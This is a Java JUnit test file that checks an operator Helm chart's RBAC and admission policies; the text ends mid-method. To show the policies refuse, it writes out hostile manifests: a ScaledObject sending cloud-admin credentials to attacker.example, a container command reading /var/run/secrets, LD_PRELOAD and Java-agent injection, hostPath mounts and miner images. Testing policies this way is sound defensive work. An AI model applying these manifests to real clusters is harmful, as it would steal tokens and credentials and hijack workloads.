package io.drover.operator.chart;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.drover.operator.api.v1alpha1.ExecutorCluster;
import io.drover.operator.resources.ExecutorStatefulSet;
import io.drover.operator.testing.Clusters;
import io.drover.operator.testing.Command.Result;
import io.drover.operator.testing.TestCluster;
import io.fabric8.kubernetes.api.model.apps.StatefulSet;
import io.fabric8.kubernetes.client.utils.Serialization;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static io.drover.operator.testing.Command.run;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The Helm chart: lint-clean, and what it renders is valid for Kubernetes 1.34 twice over:
 * kubeconform against JSON schemas made from the test API server's own OpenAPI document
 * (the Kubernetes 1.34 kinds plus the installed ExecutorCluster CRD), and a server-side dry-run
 * apply with strict field validation against that API server.
 */
class HelmChartTest {
    static final Path CHART = TestCluster.repoRoot().resolve("charts/drover-operator");
    static Path schemas;

    @BeforeAll
    static void schemasFromTheApiServer() throws Exception {
        TestCluster cluster = TestCluster.get();
        schemas = Files.createTempDirectory("drover-kube-schemas");
        String openapi = cluster.client().raw(cluster.config().getMasterUrl() + "openapi/v2");
        JsonNode doc = new ObjectMapper().readTree(openapi);
        writeKubeconformSchemas((ObjectNode) doc.get("definitions"), schemas);
    }

    /**
     * kubeconform looks up {kind}-{group}-{version}.json; each file points at its definition
     * and carries all definitions, so the OpenAPI "$ref"s resolve inside the file.
     */
    static void writeKubeconformSchemas(ObjectNode definitions, Path dir) throws IOException {
        ObjectMapper json = new ObjectMapper();
        Iterator<Map.Entry<String, JsonNode>> it = definitions.fields();
        while (it.hasNext()) {
            Map.Entry<String, JsonNode> def = it.next();
            JsonNode gvks = def.getValue().get("x-kubernetes-group-version-kind");
            if (gvks == null) {
                continue;
            }
            for (JsonNode gvk : gvks) {
                String group = gvk.get("group").asText();
                String kind = gvk.get("kind").asText().toLowerCase(Locale.ROOT);
                String version = gvk.get("version").asText();
                if (!List.of("deployment", "service", "serviceaccount", "clusterrole", "clusterrolebinding", "role",
                        "rolebinding", "lease", "executorcluster", "validatingadmissionpolicy",
                        "validatingadmissionpolicybinding").contains(kind)) {
                    continue;
                }
                String suffix = group.isEmpty() ? "-" + version : "-" + group.split("\\.")[0] + "-" + version;
                ObjectNode schema = json.createObjectNode();
                schema.put("$ref", "#/definitions/" + def.getKey());
                schema.set("definitions", definitions);
                Files.writeString(dir.resolve(kind + suffix + ".json"), json.writeValueAsString(schema));
            }
        }
    }

    @Test
    void lintsClean() throws Exception {
        Result r = run(List.of(bin("helm"), "lint", "--strict", CHART.toString()));
        assertThat(r.exit()).as(r.output()).isZero();
        assertThat(r.output()).contains("0 chart(s) failed");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
            "",
            "--set watchNamespaces={team-a,team-b} --set replicas=2",
            // Names YAML reads as a number and a boolean unless quoted (they rendered unparsable objects).
            "--set-string watchNamespaces={123,on}",
            "--set clusterWide=true",
            "--set executorImage.allowedImages={registry.example.com/drover/,ghcr.io/acme/drover-executor}",
            "--set leaderElection.enabled=false --set serviceAccount.create=false --set serviceAccount.name=ops",
            "--set executorCluster.create=true --set executorCluster.spec.threads=16 --set executorCluster.spec.database.host=db"
                    + " --set executorCluster.spec.database.name=jobs --set executorCluster.spec.database.credentialsSecret.name=jobs-db",
    })
    void rendersValidKubernetes134Objects(String values) throws Exception {
        List<String> template = new ArrayList<>(List.of(bin("helm"), "template", "drover", CHART.toString(),
                "--namespace", "drover-system", "--kube-version", "1.34.2"));
        if (!values.isEmpty()) {
            template.addAll(List.of(values.split(" ")));
        }
        Result rendered = run(template);
        assertThat(rendered.exit()).as(rendered.output()).isZero();
        Path manifest = Files.createTempFile("drover-chart", ".yaml");
        Files.writeString(manifest, rendered.output());

        Result conform = run(List.of(bin("kubeconform"), "-strict", "-summary", "-output", "text",
                "-schema-location", schemas + "/{{ .ResourceKind }}{{ .KindSuffix }}.json", manifest.toString()));
        assertThat(conform.exit()).as(conform.output()).isZero();
        assertThat(conform.output()).contains("Invalid: 0, Errors: 0");
        assertThat(summaryCount(conform.output(), "Valid")).isGreaterThanOrEqualTo(6);

        for (String ns : List.of("drover-system", "team-a", "team-b", "123", "on")) {
            run(List.of(bin("kubectl"), "--kubeconfig", kubeconfig().toString(), "create", "namespace", ns));
        }
        Result dryRun = run(List.of(bin("kubectl"), "--kubeconfig", kubeconfig().toString(), "apply", "--dry-run=server",
                "--validate=strict", "-f", manifest.toString()));
        assertThat(dryRun.exit()).as(dryRun.output()).isZero();
    }

    /**
     * Least privilege as the API server judges it (RBAC on): the chart applied for real, then
     * `kubectl auth can-i` as the operator's ServiceAccount. Secrets only by name (get, and
     * create for the generated API tokens), only in the managed namespaces; cluster-wide only
     * when asked for.
     */
    @Test
    void theOperatorGetsOnlySecretsByNameInTheNamespacesItManages() throws Exception {
        for (String ns : List.of("rbac-system", "rbac-team", "rbac-other")) {
            kubectl("create", "namespace", ns);
        }
        install("rbac", "rbac-system", "--set", "watchNamespaces={rbac-team}");
        String sa = "system:serviceaccount:rbac-system:rbac-drover-operator";
        assertThat(canI(sa, "get", "secrets", "rbac-team")).isTrue();
        assertThat(canI(sa, "create", "secrets", "rbac-team")).isTrue();
        for (String verb : List.of("list", "watch", "update", "patch", "delete")) {
            assertThat(canI(sa, verb, "secrets", "rbac-team")).as(verb + " secrets").isFalse();
        }
        assertThat(canI(sa, "get", "secrets", "rbac-other")).isFalse();
        assertThat(canI(sa, "get", "secrets", "rbac-system")).as("its own namespace is not managed").isFalse();
        assertThat(canI(sa, "get", "secrets", null)).isFalse();
        assertThat(canI(sa, "list", "executorclusters.drover.io", "rbac-team")).isTrue();
        assertThat(canI(sa, "list", "executorclusters.drover.io", null)).isFalse();
        assertThat(canI(sa, "create", "statefulsets.apps", "rbac-team")).isTrue();
        // The writes the reconciler makes, by the verb each needs (its tests run as this chart's
        // ServiceAccount too, TestCluster.operatorToken): a scale alone updates the StatefulSet's scale
        // subresource; ConfigMaps it reads (a CA bundle) and deletes (an older operator's settings), never writes.
        assertThat(canI(sa, "update", "statefulsets.apps", "rbac-team")).isTrue();
        assertThat(kubectl("auth", "can-i", "update", "statefulsets.apps", "--subresource=scale", "--as=" + sa, "-n", "rbac-team")
                .output().strip()).endsWith("yes");
        assertThat(kubectl("auth", "can-i", "update", "statefulsets.apps", "--subresource=scale", "--as=" + sa, "-n", "rbac-other")
                .output().strip()).endsWith("no");
        assertThat(canI(sa, "patch", "configmaps", "rbac-team")).isFalse();
        assertThat(canI(sa, "create", "configmaps", "rbac-team")).isFalse();
        assertThat(canI(sa, "delete", "configmaps", "rbac-team")).isTrue();
        assertThat(canI(sa, "patch", "services", "rbac-team")).isTrue();
        assertThat(canI(sa, "create", "statefulsets.apps", "rbac-other")).isFalse();
        assertThat(canI(sa, "create", "pods", "rbac-team")).isFalse();
        assertThat(canI(sa, "watch", "pods", "rbac-team")).as("pod status, for root causes").isTrue();
        assertThat(canI(sa, "delete", "pods", "rbac-team")).isFalse();
        assertThat(canI(sa, "create", "events.events.k8s.io", "rbac-team")).isTrue();
        assertThat(canI(sa, "list", "events.events.k8s.io", "rbac-team")).as("FailedCreate, for root causes").isTrue();
        assertThat(canI(sa, "delete", "events.events.k8s.io", "rbac-team")).isFalse();
        assertThat(canI(sa, "create", "networkpolicies.networking.k8s.io", "rbac-team")).isTrue();
        assertThat(canI(sa, "create", "networkpolicies.networking.k8s.io", "rbac-other")).isFalse();
        assertThat(canI(sa, "get", "customresourcedefinitions.apiextensions.k8s.io/executorclusters.drover.io", null)).isTrue();
        assertThat(canI(sa, "list", "customresourcedefinitions.apiextensions.k8s.io", null)).isFalse();

        // The other kinds: the verbs the code uses, no more. Nothing lists or watches ConfigMaps
        // or Services (with clusterWide that would be every one in the cluster); ConfigMaps are
        // deleted only as the writes policy lets (an older operator's settings, its own).
        for (String verb : List.of("list", "watch", "update")) {
            assertThat(canI(sa, verb, "configmaps", "rbac-team")).as(verb + " configmaps").isFalse();
            assertThat(canI(sa, verb, "services", "rbac-team")).as(verb + " services").isFalse();
        }
        assertThat(canI(sa, "delete", "services", "rbac-team")).as("delete services").isFalse();
        assertThat(canI(sa, "patch", "services", "rbac-team")).as("server-side apply").isTrue();
        assertThat(canI(sa, "update", "statefulsets.apps", "rbac-team")).as("optimistically locked update").isTrue();
        assertThat(canI(sa, "delete", "statefulsets.apps", "rbac-team")).as("left to the garbage collector").isFalse();
        assertThat(canI(sa, "delete", "poddisruptionbudgets.policy", "rbac-team")).as("its own, when disabled").isTrue();
        assertThat(canI(sa, "list", "poddisruptionbudgets.policy", "rbac-team")).isFalse();
        // The spec is the user's: the operator writes only the status.
        for (String verb : List.of("patch", "update", "delete", "create")) {
            assertThat(canI(sa, verb, "executorclusters.drover.io", "rbac-team")).as(verb + " executorclusters").isFalse();
        }
        assertThat(canI(sa, "list", "horizontalpodautoscalers.autoscaling", "rbac-team")).as("KEDA's HPA").isTrue();
        assertThat(canI(sa, "get", "horizontalpodautoscalers.autoscaling", "rbac-team")).isFalse();

        // Without watchNamespaces: the release's namespace only.
        install("solo", "rbac-other");
        String solo = "system:serviceaccount:rbac-other:solo-drover-operator";
        assertThat(canI(solo, "get", "secrets", "rbac-other")).isTrue();
        assertThat(canI(solo, "get", "secrets", "rbac-team")).isFalse();

        // Opt-in cluster-wide: any namespace, still get only.
        install("wide", "rbac-system", "--set", "clusterWide=true");
        String wide = "system:serviceaccount:rbac-system:wide-drover-operator";
        assertThat(canI(wide, "get", "secrets", "rbac-other")).isTrue();
        assertThat(canI(wide, "list", "secrets", "rbac-other")).isFalse();
        assertThat(canI(wide, "watch", "secrets", null)).isFalse();
    }

    /** executorImage.allowedImages: the API server itself refuses another image, naming the field. */
    @Test
    void theApiServerRefusesAnImageOutsideTheAllowList() throws Exception {
        for (String ns : List.of("img-system", "img-team")) {
            kubectl("create", "namespace", ns);
        }
        var client = TestCluster.get().client();
        // Applied before the list: it runs an image the list will not have.
        Clusters.create(client, "img-team", Clusters.yaml("legacy", "image: ghcr.io/acme/old-executor:1"));
        install("imgs", "img-system", "--set", "watchNamespaces={img-team}",
                "--set", "executorImage.allowedImages={registry.example.com/drover/,ghcr.io/acme/drover-executor,registry.internal,quay.io/acme/pinned:1.0}");
        // The policy takes effect once the API server has loaded it.
        org.awaitility.Awaitility.await("the image policy denies").atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500))
                .untilAsserted(() -> assertThatThrownBy(() -> Clusters.create(client, "img-team",
                        Clusters.yaml("miner", "image: ghcr.io/acme/drover-executor-evil:1")))
                        .hasMessageContaining("spec.image: ghcr.io/acme/drover-executor-evil:1 is not among the allowed executor images"
                                + " (registry.example.com/drover/, ghcr.io/acme/drover-executor, registry.internal, quay.io/acme/pinned:1.0;"));
        assertThatThrownBy(() -> Clusters.create(client, "img-team", Clusters.yaml("miner-b", "image: registry.internal:5000/miner:1")))
                .as("another registry's image, not a tag of an entry").hasMessageContaining("is not among the allowed executor images");
        assertThatThrownBy(() -> Clusters.create(client, "img-team", Clusters.yaml("miner-c", "image: quay.io/acme/pinned:1.0@sha256:0a1b")))
                .as("a pinned entry with any digest").hasMessageContaining("is not among the allowed executor images");
        assertThat(Clusters.create(client, "img-team", Clusters.yaml("ok-pinned", "image: quay.io/acme/pinned:1.0"))).isNotNull();
        assertThat(Clusters.create(client, "img-team", Clusters.yaml("ok-a", "image: ghcr.io/acme/drover-executor:0.2"))).isNotNull();
        assertThat(Clusters.create(client, "img-team", Clusters.yaml("ok-b", "image: registry.example.com/drover/custom@sha256:0a1b"))).isNotNull();
        assertThat(Clusters.create(client, "img-team", Clusters.yaml("ok-c", ""))).as("the default image").isNotNull();

        // The cluster applied before the list: only its image is judged, and only when it changes.
        // Its other edits pass (a denied metadata write also kept the garbage collector from
        // removing a foreground deletion's finalizer: the cluster stayed Terminating for good).
        Result label = kubectl("-n", "img-team", "label", "executorcluster", "legacy", "team=payments");
        assertThat(label.exit()).as(label.output()).isZero();
        Result other = kubectl("-n", "img-team", "patch", "executorcluster", "legacy", "--type=merge", "-p", "{\"spec\":{\"threads\":8}}");
        assertThat(other.exit()).as(other.output()).isZero();
        Result image = kubectl("-n", "img-team", "patch", "executorcluster", "legacy", "--type=merge",
                "-p", "{\"spec\":{\"image\":\"ghcr.io/acme/old-executor:2\"}}");
        assertThat(image.exit()).isNotZero();
        assertThat(image.output()).contains("spec.image: ghcr.io/acme/old-executor:2 is not among the allowed executor images");
    }

    @Test
    void clusterWideExcludesWatchNamespaces() throws Exception {
        Result r = template("--set", "clusterWide=true", "--set", "watchNamespaces={a}");
        assertThat(r.exit()).isNotZero();
        assertThat(r.output()).contains("clusterWide: true manages every namespace: leave watchNamespaces empty");
    }

    /**
     * What RBAC cannot limit, the chart's admission policy does, for the operator's ServiceAccount
     * only: no Secret but an Opaque {@code <cluster>-api} or {@code <cluster>-roll-key} (a stolen
     * token could otherwise mint any ServiceAccount's token), nothing created without its label
     * and an ExecutorCluster's controller reference, and no write to an object that carries neither.
     */
    @Test
    void theOperatorMayWriteOnlyWhatItMakes() throws Exception {
        for (String ns : List.of("vap-system", "vap-team")) {
            kubectl("create", "namespace", ns);
        }
        TestCluster.get().installKedaCrds(); // its ScaledObjects and TriggerAuthentications
        install("vap", "vap-system", "--set", "watchNamespaces={vap-team}");
        String sa = "--as=system:serviceaccount:vap-system:vap-drover-operator";
        ExecutorCluster owner = Clusters.create(TestCluster.get().client(), "vap-team", Clusters.yaml("jobs", ""));
        kubectl("-n", "vap-team", "create", "serviceaccount", "victim");
        kubectl("-n", "vap-team", "create", "service", "clusterip", "someone-elses", "--tcp=80:80");
        kubectl("-n", "vap-team", "create", "configmap", "someone-elses", "--from-literal=a=b");
        Path token = secret("victim-api", "kubernetes.io/service-account-token",
                "  annotations: {kubernetes.io/service-account.name: victim}\n" + ownedBy(owner));
        // The policy takes effect once the API server has loaded it.
        org.awaitility.Awaitility.await("the operator may not mint a token").atMost(Duration.ofSeconds(30))
                .pollInterval(Duration.ofMillis(500)).untilAsserted(() -> assertThat(kubectl(sa, "create", "-f", token.toString()).output())
                        .contains("creates only Opaque Secrets named <cluster>-api or <cluster>-roll-key"));
        Result foreign = kubectl(sa, "-n", "vap-team", "label", "service", "someone-elses", "x=y");
        assertThat(foreign.exit()).isNotZero();
        assertThat(foreign.output()).contains("writes only objects labelled app.kubernetes.io/managed-by=drover-operator"
                + " and controlled by an ExecutorCluster");
        Result unlabelled = kubectl(sa, "-n", "vap-team", "create", "secret", "generic", "jobs-api", "--from-literal=token=t");
        assertThat(unlabelled.output()).contains("writes only objects labelled");
        Result unowned = kubectl(sa, "create", "-f", secret("jobs-api", "Opaque", "").toString());
        assertThat(unowned.exit()).as("labelled, but no cluster's").isNotZero();
        assertThat(unowned.output()).contains("controlled by an ExecutorCluster");
        // What the operator makes is let through, and the policy binds nobody else.
        Result created = kubectl(sa, "create", "-f", secret("jobs-api", "Opaque", ownedBy(owner)).toString());
        assertThat(created.exit()).as(created.output()).isZero();
        assertThat(kubectl("-n", "vap-team", "label", "service", "someone-elses", "x=y").exit()).as("an admin").isZero();
        // Its own object whose label someone removed: its next write puts the label back.
        Path own = Files.createTempFile("jobs-service", ".yaml");
        Files.writeString(own, "apiVersion: v1\nkind: Service\nmetadata:\n  name: jobs-nodes\n  namespace: vap-team\n"
                + ownedBy(owner) + "spec: {ports: [{port: 80}], selector: {app.kubernetes.io/name: drover-executor,"
                + " app.kubernetes.io/instance: jobs}}\n");
        assertThat(kubectl("create", "-f", own.toString()).exit()).isZero();
        Result relabel = kubectl(sa, "-n", "vap-team", "label", "service", "jobs-nodes", "app.kubernetes.io/managed-by=drover-operator");
        assertThat(relabel.exit()).as(relabel.output()).isZero();
        // What it writes is shaped as it makes it, for its own cluster's executors.
        Map<String, String> misshapen = Map.of(
                "externalIPs", "apiVersion: v1\nkind: Service\nmetadata:\n  name: jobs-mitm\n  namespace: vap-team\n"
                        + labelledAndOwnedBy(owner) + "spec: {ports: [{port: 80}], externalIPs: [10.0.0.1],"
                        + " selector: {app.kubernetes.io/name: drover-executor, app.kubernetes.io/instance: jobs}}\n",
                "a LoadBalancer", "apiVersion: v1\nkind: Service\nmetadata:\n  name: jobs-lb\n  namespace: vap-team\n"
                        + labelledAndOwnedBy(owner) + "spec: {type: LoadBalancer, ports: [{port: 80}],"
                        + " selector: {app.kubernetes.io/name: drover-executor, app.kubernetes.io/instance: jobs}}\n",
                "a NetworkPolicy over every pod", "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n"
                        + "  name: jobs-all\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
                        + "spec: {podSelector: {}, policyTypes: [Ingress]}\n",
                "a PodDisruptionBudget over another workload", "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata:\n"
                        + "  name: jobs-block\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
                        + "spec: {maxUnavailable: 0, selector: {matchLabels: {app: web}}}\n",
                "a ScaledObject of another workload", "apiVersion: keda.sh/v1alpha1\nkind: ScaledObject\nmetadata:\n"
                        + "  name: jobs-dns\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
                        + "spec: {scaleTargetRef: {kind: Deployment, name: coredns}, triggers: [{type: cpu, metadata: {value: '50'}}]}\n",
                "a ScaledObject sending a ClusterTriggerAuthentication's credentials", "apiVersion: keda.sh/v1alpha1\n"
                        + "kind: ScaledObject\nmetadata:\n  name: jobs-exfil\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
                        + "spec: {scaleTargetRef: {apiVersion: apps/v1, kind: StatefulSet, name: jobs}, triggers: [{type: postgresql,"
                        + " metadata: {host: attacker.example, query: 'select 1', targetQueryValue: '1'},"
                        + " authenticationRef: {kind: ClusterTriggerAuthentication, name: cloud-admin}}]}\n");
        for (var m : misshapen.entrySet()) {
            Path file = Files.createTempFile("misshapen", ".yaml");
            Files.writeString(file, m.getValue());
            Result r = kubectl(sa, "create", "--dry-run=server", "-f", file.toString());
            assertThat(r.exit()).as(m.getKey() + ": " + r.output()).isNotZero();
            assertThat(r.output()).as(m.getKey()).contains("the drover operator writes only").contains("is not one");
        }
        // ConfigMaps: it deletes an older operator's settings ConfigMap of its own, no one else's.
        Path settings = Files.createTempFile("jobs-config", ".yaml");
        Files.writeString(settings, "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: jobs-config\n  namespace: vap-team\n"
                + ownedBy(owner) + "data: {DROVER_THREADS: '8'}\n");
        assertThat(kubectl("create", "-f", settings.toString()).exit()).isZero();
        Result theirs = kubectl(sa, "-n", "vap-team", "delete", "configmap", "someone-elses");
        assertThat(theirs.exit()).isNotZero();
        assertThat(theirs.output()).contains("writes only objects labelled");
        Result ours = kubectl(sa, "-n", "vap-team", "delete", "configmap", "jobs-config");
        assertThat(ours.exit()).as(ours.output()).isZero();
    }

    /**
     * The operator may create StatefulSets, that is run pods: the chart's policy lets it run only
     * pods shaped as ExecutorStatefulSet makes them, so a stolen token cannot run a pod with
     * another ServiceAccount's token, the host's namespaces, a hostPath, or an image outside
     * executorImage.allowedImages. Every manifest is the operator's own, changed in one place,
     * sent as the operator by a server-side dry run.
     */
    @Test
    void theOperatorRunsOnlyPodsShapedAsItMakesThem() throws Exception {
        for (String ns : List.of("pods-system", "pods-team")) {
            kubectl("create", "namespace", ns);
        }
        install("pods", "pods-system", "--set", "watchNamespaces={pods-team}", "--set", "executorImage.tag=t1",
                "--set", "executorImage.allowedImages={registry.example.com/drover/}");
        String sa = "--as=system:serviceaccount:pods-system:pods-drover-operator";
        var client = TestCluster.get().client();
        ExecutorCluster plain = Clusters.create(client, "pods-team", Clusters.yaml("plain", ""));
        ExecutorCluster full = Clusters.create(client, "pods-team", Clusters.yaml("full", """
                image: registry.example.com/drover/executor:2
                database: {host: db, name: jobs, credentialsSecret: {name: jobs-db}, caBundle: {secret: db-ca}}
                placement: {nodeSelector: {pool: jobs}, tolerations: [{key: jobs, operator: Exists}]}
                env: [{name: FOO, value: bar}]
                jvmOptions: -Xmx1g
                """));
        StatefulSet defaultImage = statefulSet(plain, "localhost/drover-executor:t1");
        org.awaitility.Awaitility.await("the policy is loaded").atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500))
                .untilAsserted(() -> assertThat(dryRunAs(sa, withPod(defaultImage, p -> p.setServiceAccountName("victim"))).output())
                        .contains("runs executor pods only as it makes them"));
        for (StatefulSet own : List.of(defaultImage, statefulSet(full, "localhost/drover-executor:t1"))) {
            Result r = dryRunAs(sa, own);
            assertThat(r.exit()).as(r.output()).isZero();
        }
        Map<String, java.util.function.Consumer<io.fabric8.kubernetes.api.model.PodSpec>> pods = Map.of(
                "a token mounted", p -> p.setAutomountServiceAccountToken(true),
                "the host's network", p -> p.setHostNetwork(true),
                "a hostPath", p -> p.getVolumes().add(new io.fabric8.kubernetes.api.model.VolumeBuilder().withName("root")
                        .withNewHostPath().withPath("/").endHostPath().build()),
                "a projected token", p -> p.getVolumes().add(new io.fabric8.kubernetes.api.model.VolumeBuilder().withName("t")
                        .withNewProjected().addNewSource().withNewServiceAccountToken().withPath("t").endServiceAccountToken()
                        .endSource().endProjected().build()),
                "an init container", p -> p.setInitContainers(List.of(new io.fabric8.kubernetes.api.model.ContainerBuilder()
                        .withName("init").withImage("registry.example.com/drover/executor:2").build())));
        for (var change : pods.entrySet()) {
            Result r = dryRunAs(sa, withPod(defaultImage, change.getValue()));
            assertThat(r.exit()).as(change.getKey()).isNotZero();
            assertThat(r.output()).as(change.getKey()).contains("runs executor pods only as it makes them");
        }
        Map<String, java.util.function.Consumer<io.fabric8.kubernetes.api.model.Container>> containers = Map.of(
                "another image", c -> c.setImage("evil.example.com/miner:1"),
                "a look-alike of the allowed prefix", c -> c.setImage("registry.example.com/drover-evil/x:1"),
                "a command", c -> c.setCommand(List.of("sh", "-c", "cat /var/run/secrets/*")),
                "a capability added", c -> c.getSecurityContext().getCapabilities().setAdd(List.of("SYS_ADMIN")),
                "privilege escalation", c -> c.getSecurityContext().setAllowPrivilegeEscalation(true));
        containers = new java.util.HashMap<>(containers);
        containers.put("a lifecycle hook", c -> c.setLifecycle(new io.fabric8.kubernetes.api.model.LifecycleBuilder()
                .withNewPreStop().withNewExec().withCommand("sh").endExec().endPreStop().build()));
        containers.put("an exec probe", c -> c.setLivenessProbe(new io.fabric8.kubernetes.api.model.ProbeBuilder()
                .withNewExec().withCommand("sh").endExec().build()));
        containers.put("a host port", c -> c.getPorts().getFirst().setHostPort(8080));
        containers.put("a Java agent", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar", null)));
        containers.put("JDK_JAVA_OPTIONS", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "JDK_JAVA_OPTIONS", "-Xmx1g", null)));
        containers.put("LD_PRELOAD", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "LD_PRELOAD", "/tmp/a.so", null)));
        containers.put("handler jars from a mounted Secret", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "drover.handlersDir", "/etc/drover/database-ca", null)));
        containers.put("process models from a mounted Secret", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "DROVER_FLOWABLE_PROCESSESDIR", "/tmp", null)));
        containers.put("handler jars through the prod profile's name", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "_PROD_DROVER_HANDLERSDIR", "/etc/drover/database-ca", null)));
        containers.put("handler jars through the prod profile's name, as a property", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "_prod_drover.handlersDir", "/etc/drover/database-ca", null)));
        containers.put("process models through the prod profile's name", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "_PROD_DROVER_FLOWABLE_PROCESSESDIR", "/tmp", null)));
        containers.put("a configuration file of the writer's", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "QUARKUS_CONFIG_LOCATIONS", "/etc/drover/database-ca/p", null)));
        containers.put("a configuration file of the writer's, as a property", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "quarkus.config.locations", "/tmp/p", null)));
        containers.put("SmallRye's configuration locations", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "SMALLRYE_CONFIG_LOCATIONS", "/tmp/p", null)));
        containers.put("another profile", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "QUARKUS_PROFILE", "evil", null)));
        containers.put("every setting's value logged (the tokens, the database password)", c -> c.getEnv().add(
                new io.fabric8.kubernetes.api.model.EnvVar("QUARKUS_CONFIG_LOG_VALUES", "true", null)));
        containers.put("a name an ExecutorCluster cannot give", c -> c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar(
                "drover/handlersDir", "/tmp", null)));
        containers.put("run as root", c -> c.getSecurityContext().setRunAsNonRoot(false));
        containers.put("capabilities kept", c -> c.getSecurityContext().getCapabilities().setDrop(List.of()));
        containers.put("a Secret as environment", c -> c.setEnvFrom(List.of(new io.fabric8.kubernetes.api.model.EnvFromSourceBuilder()
                .withNewSecretRef().withName("jobs-api").endSecretRef().build())));
        containers.put("a ConfigMap as environment (LD_PRELOAD from a key PRELOAD under a prefix)", c -> c.setEnvFrom(List.of(
                new io.fabric8.kubernetes.api.model.EnvFromSourceBuilder().withPrefix("LD_")
                        .withNewConfigMapRef().withName("someone-elses").endConfigMapRef().build())));
        containers.put("an older operator's settings ConfigMap as environment", c -> c.setEnvFrom(List.of(
                new io.fabric8.kubernetes.api.model.EnvFromSourceBuilder()
                        .withNewConfigMapRef().withName("plain-config").endConfigMapRef().build())));
        containers.put("a mount over the executor's jar", c -> c.getVolumeMounts().add(new io.fabric8.kubernetes.api.model.VolumeMountBuilder()
                .withName("tmp").withMountPath("/app/quarkus-run.jar").withSubPath("a.jar").build()));
        for (var change : containers.entrySet()) {
            Result r = dryRunAs(sa, withPod(defaultImage, p -> change.getValue().accept(p.getContainers().get(0))));
            assertThat(r.exit()).as(change.getKey()).isNotZero();
            assertThat(r.output()).as(change.getKey()).contains("runs executor containers only as it makes them");
        }
        // The StatefulSet's own shape: its cluster's executors' labels only, and no volume claims.
        Map<String, java.util.function.Consumer<StatefulSet>> shapes = Map.of(
                "pods labelled as another workload's", st -> {
                    st.getSpec().getTemplate().getMetadata().getLabels().put("app", "web");
                    st.getSpec().getSelector().getMatchLabels().put("app", "web");
                },
                "a volume claim template (another app's PVC cloned)", st -> st.getSpec().setVolumeClaimTemplates(List.of(
                        new io.fabric8.kubernetes.api.model.PersistentVolumeClaimBuilder().withNewMetadata().withName("data").endMetadata()
                                .withNewSpec().withNewDataSource().withKind("PersistentVolumeClaim").withName("their-data").endDataSource()
                                .withAccessModes("ReadWriteOnce").withNewResources().addToRequests("storage",
                                        new io.fabric8.kubernetes.api.model.Quantity("1Gi")).endResources().endSpec().build())));
        for (var change : shapes.entrySet()) {
            StatefulSet changed = Serialization.clone(defaultImage);
            change.getValue().accept(changed);
            Result r = dryRunAs(sa, changed);
            assertThat(r.exit()).as(change.getKey()).isNotZero();
            assertThat(r.output()).as(change.getKey()).contains("writes executor StatefulSets only as it makes them");
        }
        Path other = Files.createTempFile("admin", ".yaml");
        Files.writeString(other, Serialization.asYaml(withPod(defaultImage, p -> p.setServiceAccountName("victim"))));
        Result admin = kubectl("create", "--dry-run=server", "-f", other.toString());
        assertThat(admin.exit()).as("the policy binds the operator only: " + admin.output()).isZero();

        // Its scale subresource (how the operator changes a node count) scales executors only.
        StatefulSet executors = statefulSet(plain, "localhost/drover-executor:t1");
        client.apps().statefulSets().inNamespace("pods-team").resource(executors).create();
        client.apps().statefulSets().inNamespace("pods-team").resource(new io.fabric8.kubernetes.api.model.apps.StatefulSetBuilder()
                .withNewMetadata().withName("database").endMetadata().withNewSpec().withServiceName("database")
                .withNewSelector().addToMatchLabels("app", "database").endSelector()
                .withNewTemplate().withNewMetadata().addToLabels("app", "database").endMetadata()
                .withNewSpec().addNewContainer().withName("db").withImage("postgres:17").endContainer().endSpec().endTemplate()
                .endSpec().build()).create();
        io.fabric8.kubernetes.client.Config asOperator = TestCluster.get().config();
        asOperator.setImpersonateUsername(sa.substring("--as=".length()));
        try (var operator = new io.fabric8.kubernetes.client.KubernetesClientBuilder().withConfig(asOperator).build()) {
            var statefulSets = operator.apps().statefulSets().inNamespace("pods-team");
            assertThatThrownBy(() -> statefulSets.withName("database").scale(scale("database", 0)))
                    .hasMessageContaining("the drover operator scales only executor StatefulSets: database is not one");
            assertThat(statefulSets.withName("plain").scale(scale("plain", 3)).getSpec().getReplicas()).isEqualTo(3);
        }
    }

    /** The StatefulSet the operator writes for this cluster, with its label and controller reference. */
    private static StatefulSet statefulSet(ExecutorCluster ec, String defaultImage) {
        StatefulSet sts = ExecutorStatefulSet.build(ec, defaultImage, "IfNotPresent", "hash", 1);
        sts.getMetadata().setOwnerReferences(List.of(new io.fabric8.kubernetes.api.model.OwnerReferenceBuilder()
